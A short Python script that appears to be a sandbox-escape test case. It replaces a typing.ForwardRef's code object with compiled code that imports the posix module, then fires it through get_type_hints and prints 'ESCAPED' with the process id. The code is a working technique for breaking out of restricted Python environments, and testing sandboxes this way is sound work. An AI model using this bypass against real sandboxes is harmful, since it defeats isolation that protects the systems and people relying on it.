# technique: a ForwardRef whose code object was replaced, under its name from 3.14 on
# python: 3.14+
# goal: import
# source: own analysis: eval in trusted code
import typing
reference = typing.ForwardRef('list[int]')
reference.__code__ = compile('__import__("posix").getpid', 'x', 'eval')


class X:
    a: reference


print('ESCAPED pid=%d' % typing.get_type_hints(X)['a']())
